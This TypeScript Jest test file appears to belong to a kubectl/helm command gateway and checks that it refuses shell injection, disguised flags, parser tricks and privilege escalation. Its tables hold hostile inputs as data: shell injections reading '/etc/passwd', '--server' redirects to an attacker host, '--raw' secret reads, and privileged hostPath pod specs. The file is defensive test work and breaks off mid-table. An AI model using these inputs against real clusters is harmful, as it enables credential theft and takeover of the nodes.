import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { usesStandIn } from '../../infra/local/pod.ts';
import { CLUSTER_ID } from '../../infra/local/stack.ts';
import { testStack, type Answer, type TestStack } from '../support/stack.ts';

// Attacks through the shell, the parsers, kubectl and helm, each as a caller would send it: over HTTP, to a gateway that runs. What
// is refused is refused to a caller whom policy forbids nothing, so that it is the refusal that stops it.

const tenant = '11111111-1111-4111-8111-111111111111';
const almighty = 'aaaaaaaa-0000-4000-8000-000000000001';
const unprivileged = 'aaaaaaaa-0000-4000-8000-000000000002';
const keeper = 'aaaaaaaa-0000-4000-8000-000000000005';
const accounted = 'aaaaaaaa-0000-4000-8000-000000000004';
const starred = 'aaaaaaaa-0000-4000-8000-000000000003';

const SPELT_OUT = `'*', pods/exec, pods/attach, pods/ephemeralcontainers, serviceaccounts/token, nodes,
              clusterroles.rbac.authorization.k8s.io, clusterrolebindings.rbac.authorization.k8s.io, customresourcedefinitions.apiextensions.k8s.io`;
const ROLES = `
    almighty:
      allow: [{ verbs: ['*', bind, escalate], resources: [${SPELT_OUT}], namespaces: ['*', aks-command], podSecurity: privileged }]
    keeper:
      allow: [{ verbs: ['*'], resources: [secrets, configmaps], namespaces: ['*'] }]
    unprivileged:
      allow: [{ verbs: ['*'], resources: [${SPELT_OUT}], namespaces: ['*'] }]
    accounted:
      allow: [{ verbs: ['*'], resources: [${SPELT_OUT}], namespaces: ['*'], serviceAccounts: [admin, 'web-*'] }]
    starred:
      allow: [{ verbs: ['*'], resources: ['*'], namespaces: ['*'], podSecurity: privileged }]
`;
const BINDINGS = `
    - { role: almighty, clusters: ['*'], subjects: [{ app: ${almighty} }] }
    - { role: unprivileged, clusters: ['*'], subjects: [{ app: ${unprivileged} }] }
    - { role: keeper, clusters: ['*'], subjects: [{ app: ${keeper} }] }
    - { role: accounted, clusters: ['*'], subjects: [{ app: ${accounted} }] }
    - { role: starred, clusters: ['*'], subjects: [{ app: ${starred} }] }
    - { role: shop-restarter, clusters: [named], subjects: [{ app: ${almighty} }] }
`;

/** A second cluster, on which the gateway runs each command in its caller's name. */
const NAMED_ID = CLUSTER_ID.replace('aks-demo', 'aks-named');

let stack: TestStack;
const tokens = { almighty: '', unprivileged: '', keeper: '', accounted: '', starred: '', viewer: '', deployer: '' };
type Who = keyof typeof tokens;

beforeAll(async () => {
  stack = await testStack({
    clusters: [{ resourceId: CLUSTER_ID }, { resourceId: NAMED_ID }],
    edit: (yaml) =>
      yaml
        .replace('submitsPerMinute: 30', 'submitsPerMinute: 100000')
        .replace('\nclusters:\n', `$&  named: { resourceId: ${NAMED_ID}, impersonate: true, defaultNamespace: shop }\n`)
        .replace('\n  roles:\n', `$&${ROLES}`)
        .replace('\n  bindings:\n', `$&${BINDINGS}`),
  });
  const app = (oid: string) => stack.azure.entra.appToken({ oid, roles: ['Commands.Run'] });
  tokens.almighty = await app(almighty);
  tokens.unprivileged = await app(unprivileged);
  tokens.keeper = await app(keeper);
  tokens.accounted = await app(accounted);
  tokens.starred = await app(starred);
  tokens.viewer = stack.tokens.bot;
  tokens.deployer = stack.tokens.user;
});
afterAll(() => stack.close());

type Files = Readonly<Record<string, string>>;
/** Words parted by single blanks, or the words themselves. */
type Line = string | readonly string[];

interface Sent {
  readonly files?: Files | undefined;
  readonly stdin?: string | undefined;
  readonly reason?: string | undefined;
  readonly as?: Who | undefined;
}

const body = (line: Line, { files, stdin, reason }: Sent) => ({
  argv: typeof line === 'string' ? line.split(' ') : line,
  ...(files && { files: Object.entries(files).map(([path, content]) => ({ path, content })) }),
  ...(stdin !== undefined && { stdin }),
  ...(reason !== undefined && { reason }),
});

/** What the problem documents of these tests hold besides their standard members. */
type Extended = Answer<Answer['body'] & { word?: string; why?: string; reason?: string; rule?: unknown }>;

/** POSTs what must not run, checks that Azure saw nothing of it, and that explain says the same. */
async function stopped(sent: Record<string, unknown>, as: Who): Promise<Extended> {
  const before = stack.azure.arm.posts.length;
  const answer = (await stack.command(sent, { token: tokens[as] })) as Extended;
  expect(stack.azure.arm.posts.length).toBe(before);
  expect(answer.headers.get('content-type')).toBe('application/problem+json; charset=utf-8');
  return answer;
}

async function expectRefused(line: Line, word: string, sent: Sent = {}): Promise<void> {
  const request = body(line, sent);
  const as = sent.as ?? 'almighty';
  const answer = await stopped(request, as);
  expect(answer).toMatchObject({ status: 400, body: { code: 'command-refused', word, retryable: false } });
  // Long words are cut where a person reads them.
  expect(answer.body.detail).toContain(JSON.stringify(word).slice(1, -1).slice(0, 60));
  expect(answer.body.why).toMatch(/\w/);
  const explained = await stack.explain(request, { token: tokens[as] });
  expect(explained).toMatchObject({ status: 400, body: { code: 'command-refused', word } });
}

async function expectDenied(line: Line, about: string, sent: Sent & { readonly as: Who }): Promise<void> {
  const request = body(line, sent);
  const answer = await stopped(request, sent.as);
  expect(answer).toMatchObject({ status: 403, body: { code: 'policy-denied' } });
  expect(answer.body.detail).toContain(about);
  const explained = await stack.explain(request, { token: tokens[sent.as] });
  expect(explained).toMatchObject({ status: 200, body: { allowed: false, decision: { verdict: 'deny' } } });
}

interface Explained {
  readonly allowed: boolean;
  readonly command: string;
  readonly attributes: readonly {
    readonly verb: string;
    readonly group: string;
    readonly resource: string;
    readonly subresource: string;
    readonly namespace: string;
    readonly name: string;
  }[];
}

async function explain(line: Line, sent: Sent = {}): Promise<Explained> {
  const { status, text } = await stack.explain(body(line, sent), { token: tokens[sent.as ?? 'almighty'] });
  expect([status, text]).toEqual([200, expect.any(String)]);
  return JSON.parse(text) as Explained;
}

/** The control of a table: the same without what is refused is allowed, and would be sent. */
async function expectAllowed(line: Line, sent: Sent = {}): Promise<void> {
  expect((await explain(line, sent)).allowed).toBe(true);
}

const asked = ({ attributes }: Explained): string[] =>
  attributes.map(
    ({ verb, group, resource, subresource, namespace, name }) =>
      `${verb} ${resource}${group && '.'}${group}${subresource && '/'}${subresource} ${namespace}/${name}`,
  );

const object = (value: object): string => JSON.stringify(value);
const list = (...items: object[]): object => ({ apiVersion: 'v1', kind: 'List', items });
const configMap = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'settings' }, data: { a: '1' } };
const secret = { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'password' }, stringData: { a: '1' } };
const pod = (spec: object): object => ({
  apiVersion: 'v1',
  kind: 'Pod',
  metadata: { name: 'p' },
  spec: { containers: [{ name: 'c', image: 'i' }], ...spec },
});
const template = (spec: object) => ({
  metadata: { labels: { app: 'p' } },
  spec: { containers: [{ name: 'c', image: 'i' }], ...spec },
});
const deployment = (spec: object): object => ({
  apiVersion: 'apps/v1',
  kind: 'Deployment',
  metadata: { name: 'p' },
  spec: { selector: { matchLabels: { app: 'p' } }, template: template(spec) },
});
const chart: Files = {
  'web/Chart.yaml': 'apiVersion: v2\nname: web\nversion: 1.0.0\n',
  'web/values.yaml': 'a: 1\n',
  'web/templates/settings.yaml': 'kind: ConfigMap\napiVersion: v1\nmetadata: {name: settings}\n',
};

describe('14: the command string reaches a shell', () => {
  test.each([
    ['kubectl version; kubectl delete namespace shop', ';'],
    ['kubectl version;kubectl delete namespace shop', ';'],
    ['kubectl version && kubectl delete namespace shop', '&'],
    ['kubectl version & kubectl delete namespace shop', '&'],
    ['kubectl get pods || id', '|'],
    ['kubectl get pods | sh', '|'],
    ['kubectl get pods < /etc/passwd', '<'],
    ['kubectl get pods > /tmp/out', '>'],
    ['kubectl get pods 2>&1', '>'],
    ['kubectl get pods $(id)', '$'],
    ['kubectl get pods "$(id)"', '$'],
    ['kubectl get pods ${IFS}', '$'],
    ["kubectl get pods $'\\x41'", '$'],
    ['kubectl get pods `id`', '`'],
    ['kubectl get pods "`id`"', '`'],
    ['(kubectl get pods)', '('],
    ['kubectl get pods )', ')'],
    ['kubectl apply -f *', '*'],
    ['kubectl apply -f ?.yaml', '?'],
    ['kubectl apply -f [a-z].yaml', '['],
    ['kubectl apply -f ~/.kube/config', '~'],
    ['kubectl get pods # --namespace=shop', '#'],
    ['kubectl get pods\nkubectl delete namespace shop', '\n'],
    ['kubectl get pods \\\nkubectl', '\n'],
    ['kubectl get pods\r', '\r'],
    ['kubectl get pods "a\rb"', '\r'],
    ['kubectl get pods\0', '\0'],
    ["kubectl get 'pods\0'", '\0'],
    ["kubectl get 'pods", "'"],
    ['kubectl get "pods', '"'],
    ['kubectl get pods \\', '\\'],
  ])('as text, %j is refused for its %j', async (command, word) => {
    const answer = await stopped({ command }, 'almighty');
    expect(answer).toMatchObject({ status: 400, body: { code: 'command-refused', word } });
    expect(answer.body.detail).toContain(word < ' ' ? JSON.stringify(word).slice(1, -1) : JSON.stringify(word));
  });

  test.each([
    ['sh -c id', 'sh'],
    ['/bin/sh -c id', '/bin/sh'],
    ['./kubectl get pods', './kubectl'],
    ['/usr/bin/kubectl get pods', '/usr/bin/kubectl'],
    ['KUBECTL get pods', 'KUBECTL'],
    ['KUBECONFIG=/x kubectl get pods', 'KUBECONFIG=/x'],
    ['env kubectl get pods', 'env'],
    ['kubectl; get pods', 'kubectl;'],
    [['kubectl\nid', 'get', 'pods'], 'kubectl\nid'],
    [['kubectl ', 'get', 'pods'], 'kubectl '],
    [['', 'get', 'pods'], ''],
  ] as const)('as argv, %j is no tool', (line, word) => expectRefused(line, word));

  test.each(['\0', '\r', '\n', '\r\n'])('a name or namespace with %j is refused', async (character) => {
    const name = `web${character}--all`;
    await expectRefused(['kubectl', 'delete', 'pod', name], name);
    await expectRefused(['kubectl', 'get', 'pods', '-n', name], name);
    await expectRefused(['helm', 'uninstall', name], name);
  });

  // What a shell would act on arrives as the very text that was sent: kubectl prints it, and nothing else has happened.
  const canary = (): string => join(stack.folder, 'canary');
  test.each([
    ['a command substitution', (file: string) => `$(touch ${file})`],
    ['backticks', (file: string) => `\`touch ${file}\``],
    ['a quote that ends the word', (file: string) => `'; touch ${file}; '`],
    ['two quotes', (file: string) => `''; touch ${file}; ''`],
    ['a quote after a backslash', (file: string) => `\\'; touch ${file}; \\'`],
    ['a double quote', (file: string) => `"; touch ${file}; "`],
    ['operators', (file: string) => `a && touch ${file} || touch ${file} | touch ${file} & touch ${file} > ${file}`],
    ['a new line', (file: string) => `a\ntouch ${file}\n`],
    ['a carriage return', (file: string) => `a\r\ntouch ${file}`],
    ['variables and patterns', () => `$HOME ~ * ? [a-z] !! %PATH% $0 $$`],
    ['words of other alphabets', () => 'Grüße, 世界, \u2028 \u00a0 \u202e x'],
  ])('as one word of argv, %s is data', async (_what, payload) => {
    const text = payload(canary());
    const { status, body: ran } = await stack.command(
      { argv: ['kubectl', 'get', 'pods', '-n', 'shop', '-o', `jsonpath=${text}`] },
      { token: tokens.almighty },
    );
    // The stand-in for kubectl knows no jsonpath, and says so instead.
    const printed = stack.azure.kubectl === 'installed' ? [0, text] : [1, ''];
    expect([status, ran.status, ran.exitCode, ran.stdout]).toEqual([200, 'completed', ...printed]);
    expect(existsSync(canary())).toBe(false);
  });
});

describe('15: positional words that are flags in disguise', () => {
  const flag = '--server=attacker:443';
  test.each([
    [`kubectl get pods -- ${flag}`, flag],
    [`kubectl get -- pods ${flag}`, flag],
    [`kubectl get pods/${flag}`, flag],
    [`kubectl delete pod -- --all`, '--all'],
    [`kubectl describe pod -- ${flag}`, flag],
    [`kubectl logs -- ${flag}`, flag],
    [`kubectl logs deployment/${flag}`, flag],
    [`kubectl logs web -- ${flag}`, flag],
    [`kubectl rollout restart deployment/${flag}`, flag],
    [`kubectl scale --replicas=1 deployment -- ${flag}`, flag],
    [`kubectl patch pod -p {} -- ${flag}`, flag],
    [`kubectl label pod -- ${flag} a=b`, 'pod'],
    [`kubectl create configmap -- ${flag}`, 'create configmap'],
    [`kubectl create configmap web -- ${flag}`, flag],
    [`kubectl get -- ${flag}`, flag],
    [`kubectl exec ${flag} -- id`, '--server'],
    [`kubectl exec pod/${flag} -- id`, flag],
    [`kubectl cordon -- ${flag}`, flag],
    [`kubectl get pods -n ${flag}`, flag],
    [`kubectl get pods --namespace=${flag}`, flag],
    [`kubectl cp web.txt --server=x:/tmp`, '--server'],
    [`helm status -- --kube-token=x`, '--kube-token=x'],
    [`helm uninstall -- web --kubeconfig=x`, '--kubeconfig=x'],
    [`helm rollback web -- --kube-apiserver=x`, '--kube-apiserver=x'],
    [`helm list -n --kube-token=x`, '--kube-token=x'],
  ] as const)('%s', (line, word) => expectRefused(line, word));

  test.each([
    'web?a=b',
    '..',
    '.',
    'web%2flog',
    'web#x',
    'web;id',
    'web web',
    'Web',
    'web_1',
    '@file',
    '',
    'wéb',
    'x'.repeat(254),
    '$(id)',
    'web\u200b',
  ])('%j is no name', async (name) => {
    await expectRefused(['kubectl', 'get', 'pod', name], name);
    await expectRefused(['helm', 'status', name], name);
  });

  test.each([
    ['kubectl get pod ../../../apis', 'pod'],
    ['kubectl get ../../../apis', '..'],
    ['kubectl get pod -- --server=https://attacker.example', 'pod'],
    ['kubectl get pod/../../secrets/password', '../../secrets/password'],
    ['kubectl get pod/web/log', 'web/log'],
    ['kubectl get pod/ x', ''],
    ['helm status ../web', '../web'],
  ])('%s leads nowhere else', (line, word) => expectRefused(line, word));
});

describe('16: what parsers differ on', () => {
  test.each([
    ['kubectl\tget\tpods\t--server=https://x', '--server'],
    ["kubectl get pods --ser''ver=https://x", '--server'],
    ['kubectl get pods --"server"=https://x', '--server'],
    ['kubectl get pods \\-\\-server=https://x', '--server'],
    ["kubectl get pods '--server=https://x'", '--server'],
    ["kubectl get pods '--server' https://x", '--server'],
    ["kubectl get pods -'s'https://x", '-s'],
    ['kubectl get pods "--tok"en=x', '--token'],
    ['ku"bectl" ed\'it\' deployment/web', 'edit'],
    ["kubectl ''get pods --to'k'en x", '--token'],
  ])('as text, tabs and quotes inside words: %j', async (command, word) => {
    const answer = await stopped({ command }, 'almighty');
    expect(answer).toMatchObject({ status: 400, body: { code: 'command-refused', word } });
    expect(answer.body.detail).toContain(word);
  });

  test.each([
    ['a cluster of short flags', 'kubectl get pods -Ashttps://x', '-s'],
    ['a cluster with an equals sign', 'kubectl get pods -As=https://x', '-s'],
    ['a cluster and the next word', 'kubectl get pods -ws https://x', '-s'],
    ['underscores', 'kubectl get pods --insecure_skip_tls_verify', '--insecure_skip_tls_verify'],
    ['underscores with a value', 'kubectl get pods --certificate_authority=x', '--certificate_authority'],
    ['underscores and hyphens', 'kubectl get pods --as-user_extra=a=b', '--as-user_extra'],
    ['an abbreviation', 'kubectl get pods --namesp=shop', '--namesp'],
    ['an abbreviation of a refused flag', 'kubectl get pods --serv=https://x', '--serv'],
    ['an abbreviation, helm', 'helm list --kube-api=https://x', '--kube-api'],
    ['another case', 'kubectl get pods --Server=https://x', '--Server'],
    ['another case of a short flag', 'kubectl get pods -N shop', '-N'],
    ['one dash', 'kubectl get pods -server=https://x', '-s'],
    ['three dashes', 'kubectl get pods ---server=https://x', '---server=https://x'],
    ['a flag without name', 'kubectl get pods --=https://x', '--=https://x'],
    ['another dash', 'kubectl get pods \u2013server=https://x', 'pods'],
    ['a value that is the verb', 'kubectl --cache-dir get delete pod x', '--cache-dir'],
    ['a value that is the verb, helm', 'helm --registry-config list uninstall web', '--registry-config'],
    ['a flag before the verb that swallows it', 'kubectl -A get pods', 'pods'],
    ['a file of arguments', 'kubectl get @pods.txt', '@pods.txt'],
    ['a file of arguments as verb', 'kubectl @command.txt', '@command.txt'],
    ['a file of arguments, helm', 'helm uninstall @releases.txt', '@releases.txt'],
    ['an unknown flag', 'kubectl get pods --frobnicate', '--frobnicate'],
    ['an unknown flag, helm', 'helm list --frobnicate=1', '--frobnicate'],
    ['an unknown short flag', 'kubectl get pods -Z', '-Z'],
    ['a flag of another verb', 'kubectl get pods --replicas=3', '--replicas'],
    ['an unknown verb', 'kubectl frobnicate pods', 'frobnicate'],
    ['an unknown verb, helm', 'helm frobnicate web', 'frobnicate'],
    ['another case of the verb', 'kubectl DELETE pod web', 'DELETE'],
    ['an abbreviated verb', 'kubectl del pod web', 'del'],
    ['a boolean that is none', 'kubectl get pods --watch=maybe', '--watch=maybe'],
    ['a flag without its value', 'kubectl get pods -n', '-n'],
    ['two namespaces, one bad', 'kubectl get pods -n shop -n ../x', '../x'],
    ['words after --', 'kubectl get pods -- -n shop', '-n'],
    ['no verb', 'kubectl --', '--'],
  ] as const)('%s: %s', (_what, line, word) => expectRefused(line, word));

  test.each([
    ['-n shop', 'shop'],
    ['-nshop', 'shop'],
    ['-n=shop', 'shop'],
    ['--namespace shop', 'shop'],
    ['--namespace=shop', 'shop'],
    ['-n kube-system -n shop', 'shop'],
    ['-nshop --namespace=kube-system', 'kube-system'],
    ['-wnkube-system', 'kube-system'],
  ])('kubectl get pods %s: what is judged is what is sent', async (flags, namespace) => {
    const explained = await explain(`kubectl get pods ${flags}`);
    expect(new Set(explained.attributes.map((one) => one.namespace))).toEqual(new Set([namespace]));
    expect(explained.command.match(/namespace[-=\w]*/g)).toEqual([`namespace=${namespace}`]);
  });

  test('of a flag given twice, the value that counts is judged: policy allows shop alone', async () => {
    const narrow = { as: 'deployer' } as const;
    await expectAllowed('kubectl get pods -n kube-system -n shop', narrow);
    await expectDenied('kubectl get pods -n shop -n kube-system', 'kube-system', narrow);
    await expectDenied('kubectl get pods -nshop --namespace kube-system', 'kube-system', narrow);
  });
});

describe('17: one choke point behind every door', () => {
  const refusedLine = 'kubectl get pods --kubeconfig=/x';
  const deniedLine = 'kubectl get secrets -A';
  interface Door {
    readonly name: string;
    readonly cluster?: string;
    readonly headers?: Record<string, string>;
    readonly asText?: true;
  }
  const doors: readonly Door[] = [
    { name: 'argv' },
    { name: 'text', asText: true },
    { name: 'an answer that is not waited for', headers: { prefer: 'respond-async' } },
    { name: 'plain text', headers: { accept: 'text/plain' } },
    { name: 'an idempotency key', headers: { 'idempotency-key': 'attack-17' } },
    { name: 'the same key again', headers: { 'idempotency-key': 'attack-17' } },
    { name: 'a method override', headers: { 'x-http-method-override': 'GET' } },
    {
      name: 'headers of another identity',
      headers: { 'x-ms-client-principal-id': almighty, 'impersonate-user': almighty },
    },
    { name: 'a cluster that impersonates', cluster: 'named' },
  ];
  test.each(doors)('$name', async ({ cluster = 'demo', headers = {}, asText }) => {
    const before = stack.azure.arm.posts.length;
    const through = (line: string, token: string) =>
      stack.request('POST', `/v1/clusters/${cluster}/commands`, {
        token,
        headers,
        body: asText ? { command: line } : { argv: line.split(' ') },
      });
    const refused = await through(refusedLine, tokens.almighty);
    expect([refused.status, refused.text]).toEqual([400, expect.stringContaining('command-refused')]);
    expect(refused.text).toContain('--kubeconfig');
    const denied = await through(deniedLine, tokens.viewer);
    expect([denied.status, denied.text]).toEqual([403, expect.stringContaining('policy-denied')]);
    expect(stack.azure.arm.posts.length).toBe(before);
  });

  test('the same key that once ran something allowed opens nothing else', async () => {
    const headers = { 'idempotency-key': 'attack-17-used' };
    const fine = await stack.command(body('kubectl get pods', {}), { token: tokens.viewer, headers });
    expect(fine.status).toBe(200);
    const before = stack.azure.arm.posts.length;
    const other = await stack.command(body(deniedLine, {}), { token: tokens.viewer, headers });
    expect(other).toMatchObject({ status: 403, body: { code: 'policy-denied' } });
    expect(stack.azure.arm.posts.length).toBe(before);
  });
});

/** A flag with a value in every spelling that kubectl and helm read alike: behind the command and before it. */
const spellings = (tool: string, command: string, flag: string, value: string): [string[], string][] => {
  const words = command.split(' ');
  return [
    [[tool, ...words, `${flag}=${value}`], flag],
    [[tool, ...words, flag, value], flag],
    [[tool, `${flag}=${value}`, ...words], flag],
    [[tool, flag, value, ...words], flag],
  ];
};

describe('18: where kubectl goes and as whom', () => {
  const flags: readonly [string, string][] = [
    ['--server', 'https://attacker.example'],
    ['--token', 'x'],
    ['--kubeconfig', 'config'],
    ['--context', 'other'],
    ['--cluster', 'other'],
    ['--user', 'other'],
    ['--username', 'other'],
    ['--password', 'x'],
    ['--certificate-authority', 'ca.pem'],
    ['--client-certificate', 'client.pem'],
    ['--client-key', 'key.pem'],
    ['--tls-server-name', 'attacker.example'],
    ['--as', 'system:admin'],
    ['--as-group', 'system:masters'],
    ['--as-uid', '0'],
    ['--as-user-extra', 'a=b'],
    ['--cache-dir', '/tmp'],
    ['--profile', 'cpu'],
    ['--profile-output', '/tmp/x'],
    ['--kuberc', 'kuberc'],
    ['--proxy-url', 'http://attacker.example'],
    ['--log-file', '/tmp/x'],
    ['--log-dir', '/tmp'],
    ['--vmodule', 'a=9'],
  ];
  const commands = [
    'get pods',
    'apply -f app.json',
    'delete pod web',
    'exec web',
    'rollout restart deployment/web',
    'version',
  ];

  test('the control: without the flag each is allowed', async () => {
    for (const command of commands.filter((command) => !command.startsWith('exec'))) {
      await expectAllowed(`kubectl ${command}`, { files: { 'app.json': object(configMap) } });
    }
    await expectAllowed('kubectl exec web -- id');
  });

  test.each(flags)('%s in every spelling', async (flag, value) => {
    for (const [line, word] of spellings('kubectl', 'get pods', flag, value)) await expectRefused(line, word);
    const normalised = `--${flag.slice(2).replaceAll('-', '_')}`;
    await expectRefused(['kubectl', 'get', 'pods', `${normalised}=${value}`], normalised);
  });

  test.each(flags)('%s for every verb', async (flag, value) => {
    for (const command of commands) {
      await expectRefused(['kubectl', ...command.split(' '), `${flag}=${value}`], flag, {
        files: { 'app.json': object(configMap) },
      });
    }
  });

  test.each([
    ['kubectl get pods -s https://x', '-s'],
    ['kubectl get pods -shttps://x', '-s'],
    ['kubectl get pods -s=https://x', '-s'],
    ['kubectl -s https://x get pods', '-s'],
    ['kubectl -shttps://x get pods', '-s'],
    ['kubectl get pods --insecure-skip-tls-verify', '--insecure-skip-tls-verify'],
    ['kubectl get pods --insecure-skip-tls-verify=false', '--insecure-skip-tls-verify'],
    ['kubectl --insecure-skip-tls-verify get pods', '--insecure-skip-tls-verify'],
    ['kubectl logs web --insecure-skip-tls-verify-backend', '--insecure-skip-tls-verify-backend'],
  ])('%s', (line, word) => expectRefused(line, word));

  test.each(['6', '9', '99', '-1', '5x'])('-v=%s prints tokens', (level) =>
    expectRefused(`kubectl get pods -v=${level}`, `-v=${level}`),
  );
});

describe('19: past kinds and namespaces', () => {
  test.each([
    ['kubectl get --raw /api/v1/namespaces/kube-system/secrets', '--raw'],
    ['kubectl get --raw=/api/v1/secrets', '--raw'],
    ['kubectl get pods --raw=', '--raw'],
    ['kubectl create --raw /api/v1/namespaces -f app.json', '--raw'],
    ['kubectl delete --raw /api/v1/namespaces/shop', '--raw'],
    ['kubectl replace --raw /api/v1/namespaces/shop -f app.json', '--raw'],
    ['kubectl config view --raw', '--raw'],
    ['kubectl config view', 'config view'],
    ['kubectl config set clusters.x.server https://x', 'config set'],
    ['kubectl config set-cluster x', 'config set-cluster'],
    ['kubectl config set-context x', 'config set-context'],
    ['kubectl config set-credentials x', 'config set-credentials'],
    ['kubectl config use-context x', 'config use-context'],
    ['kubectl config unset users', 'config unset'],
    ['kubectl config get-contexts', 'config get-contexts'],
    ['kubectl auth reconcile -f app.json', 'auth reconcile'],
    ['kubectl proxy', 'proxy'],
    ['kubectl proxy --port=8001', 'proxy'],
    ['kubectl port-forward pod/web 8080', 'port-forward'],
    ['kubectl edit deployment/web', 'edit'],
    ['kubectl apply edit-last-applied deployment/web', 'apply edit-last-applied'],
    ['kubectl attach web -t', '--tty'],
    ['kubectl attach web -it', '--tty'],
    ['kubectl exec web -it -- sh', '--tty'],
    ['kubectl exec -it web -- sh', '--tty'],
    ['kubectl exec web sh', 'sh'],
    ['kubectl cp web:/etc/passwd passwd', 'web:/etc/passwd'],
    ['kubectl cp shop/web:/etc/passwd passwd', 'shop/web:/etc/passwd'],
    ['kubectl cluster-info dump', 'cluster-info dump'],
    ['kubectl get pods --subresource=log', '--subresource=log'],
    ['kubectl get nodes --subresource=proxy', '--subresource=proxy'],
  ])('%s is refused', (line, word) => expectRefused(line, word, { files: { 'app.json': object(configMap) } }));

  const file = { files: { 'a.txt': 'a' } };
  test.each([
    ['kubectl exec web -- id', 'create pods/exec shop/web'],
    ['kubectl exec deployment/web -- id', 'create pods/exec shop/'],
    ['kubectl attach web', 'create pods/attach shop/web'],
    ['kubectl cp a.txt web:/tmp/a.txt', 'create pods/exec shop/web'],
    ['kubectl cp a.txt kube-system/web:/tmp/a.txt', 'create pods/exec kube-system/web'],
  ])('%s is a verb of its own, and no reading', async (line, attribute) => {
    const sent = line.includes('a.txt') ? file : {};
    expect(asked(await explain(line, sent))).toContain(attribute);
    await expectDenied(line, 'pods/', { ...sent, as: 'viewer' });
    await expectDenied(line, 'pods/', { ...sent, as: 'starred' });
  });
});

describe('20: exec by another door', () => {
  test.each([
    ['kubectl debug web --image=busybox', 'pods/ephemeralcontainers'],
    ['kubectl debug web --image=busybox -- sh -c id', 'pods/ephemeralcontainers'],
    ['kubectl debug pod/web --image=busybox --target=web', 'pods/ephemeralcontainers'],
  ])('%s changes ephemeral containers, which no * allows', async (line, resource) => {
    expect(asked(await explain(line))).toContain(`patch ${resource} shop/web`);
    await expectDenied(line, resource, { as: 'starred' });
    await expectDenied(line, resource, { as: 'viewer' });
  });

  test.each([
    ['kubectl run p --image=i --overrides={}', '--overrides'],
    ['kubectl run p --image=i --overrides {"spec":{"hostNetwork":true}}', '--overrides'],
    ['kubectl run p --image=i --override-type=json', '--override-type'],
    ['kubectl run p --image=i -i', '--stdin'],
    ['kubectl run p --image=i -t', '--tty'],
    ['kubectl run p --image=i --rm', '--rm'],
    ['kubectl run p --image=i --attach', '--attach'],
    ['kubectl expose deployment web --overrides={}', '--overrides'],
    ['kubectl debug node/aks-1 --image=busybox', 'nodes/aks-1'],
    ['kubectl debug deployment/web --image=busybox', 'deployments/web'],
    ['kubectl debug web --image=busybox -it', '--stdin'],
    ['kubectl debug web --image=busybox --custom=spec.json', '--custom'],
  ])('%s is refused', (line, word) => expectRefused(line, word));

  const reasons: readonly [string, object][] = [
    ['hostPath', { volumes: [{ name: 'v', hostPath: { path: '/' } }] }],
    ['a flexVolume', { volumes: [{ name: 'v', flexVolume: { driver: 'a/b' } }] }],
    ['a gitRepo volume', { volumes: [{ name: 'v', gitRepo: { repository: 'https://attacker.example' } }] }],
    ['SELinux options', { securityContext: { seLinuxOptions: { type: 'spc_t' } } }],
    ['hostNetwork', { hostNetwork: true }],
    ['hostPID', { hostPID: true }],
    ['hostIPC', { hostIPC: true }],
    ['hostPort', { containers: [{ name: 'c', image: 'i', ports: [{ containerPort: 1, hostPort: 1 }] }] }],
    ['a privileged container', { containers: [{ name: 'c', image: 'i', securityContext: { privileged: true } }] }],
    ['a privileged container', { initContainers: [{ name: 'c', image: 'i', securityContext: { privileged: true } }] }],
    [
      'added capabilities',
      { containers: [{ name: 'c', image: 'i', securityContext: { capabilities: { add: ['SYS_ADMIN'] } } }] },
    ],
  ];
  const cronJob = (spec: object): object => ({
    apiVersion: 'batch/v1',
    kind: 'CronJob',
    metadata: { name: 'p' },
    spec: { schedule: '0 0 * * *', jobTemplate: { spec: { template: template(spec) } } },
  });

  test.each(reasons)('%s in a manifest: podSecurity: privileged or nothing, %j', async (reason, spec) => {
    for (const manifest of [pod(spec), deployment(spec), cronJob(spec), list(configMap, list(deployment(spec)))]) {
      const files = { 'app.json': object(manifest) };
      await expectDenied('kubectl apply -f app.json', 'podSecurity: privileged', { files, as: 'unprivileged' });
      await expectAllowed('kubectl apply -f app.json', { files });
    }
    const files = { 'app.json': object(pod(spec)) };
    for (const line of [
      'kubectl create -f app.json',
      'kubectl replace -f app.json',
      'kubectl replace --force -f app.json',
      'kubectl apply --server-side -f app.json',
      'kubectl apply --dry-run=server -f app.json',
    ]) {
      await expectDenied(line, reason, { files, as: 'unprivileged' });
      await expectAllowed(line, { files });
    }
    await expectDenied('kubectl apply -f -', reason, { stdin: object(pod(spec)), as: 'unprivileged' });
    const patch = object({ spec: { template: { spec } } });
    await expectDenied(['kubectl', 'patch', 'deployment', 'web', '-p', patch], reason, { as: 'unprivileged' });
    await expectDenied('kubectl patch deployment web --type=merge --patch-file=p.json', reason, {
      files: { 'p.json': patch },
      as: 'unprivileged',
    });
  });

  test.each(['hostPath', 'local', 'flexVolume'])(
    'a persistent volume of kind %s is the disk of a node',
    async (kind) => {
      const volume = {
        apiVersion: 'v1',
        kind: 'PersistentVolume',
        metadata: { name: 'v' },
        spec: { [kind]: { path: '/' } },
      };
      const files = { 'v.json': object(volume) };
      await expectDenied('kubectl apply -f v.json', 'podSecurity: privileged', { files, as: 'unprivileged' });
      await expectAllowed('kubectl apply -f v.json', { files });
    },
  );

  test.each([{ serviceAccountName: 'admin' }, { serviceAccount: 'admin' }])('another identity, %j', async (spec) => {
    for (const manifest of [pod(spec), deployment(spec), cronJob(spec), list(configMap, list(deployment(spec)))]) {
      const files = { 'app.json': object(manifest) };
      for (const line of ['kubectl apply -f app.json', 'kubectl apply --server-side -f app.json']) {
        await expectDenied(line, 'serviceAccounts: [admin]', { files, as: 'unprivileged' });
        await expectAllowed(line, { files });
        await expectAllowed(line, { files, as: 'accounted' });
      }
    }
    const patch = object({ spec: { template: { spec } } });
    const line = ['kubectl', 'patch', 'deployment', 'web', '-p', patch];
    await expectDenied(line, 'serviceAccounts: [admin]', { as: 'unprivileged' });
    await expectAllowed(line, { as: 'accounted' });
    await expectDenied('kubectl set serviceaccount deployment/web other', 'serviceAccounts: [other]', {
      as: 'accounted',
    });
  });

  test('the control: a pod without any of it needs no such rule', async () => {
    for (const manifest of [pod({}), deployment({ serviceAccountName: 'default' }), cronJob({})]) {
      const sent = { files: { 'app.json': object(manifest) }, as: 'unprivileged' } as const;
      await expectAllowed('kubectl apply -f app.json', sent);
    }
  });

  test.each([
    ['kubectl run p --image=i --privileged', 'a privileged container'],
